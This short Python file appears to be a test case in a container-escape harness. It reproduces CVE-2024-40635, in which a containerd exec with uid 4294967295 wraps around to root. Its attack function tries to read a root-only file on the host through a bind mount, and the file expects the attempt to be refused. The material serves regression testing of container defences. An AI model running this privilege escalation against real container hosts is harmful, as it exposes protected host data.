"""The uid 4294967295 at exec is -1, "leave it as it is": root."""

from bypass import refused

SOURCE = "CVE-2024-40635: a large user id wraps around to root (containerd)"
WAY = "exec"
STOPPED = refused("user")
BARE = {"runc": "it checks the range itself"}


def attack(t):
    t.plant("/mnt/host/data/only-root", 0o600)
    t.bind("/mnt/host/data", "/x", "rbind", "ro")
    t.spec["process"]["user"] = {"uid": 1000, "gid": 1000}
    t.up()
    return t.leaked(t.exec("cat /x/only-root", user={"uid": 4294967295, "gid": 4294967295}))
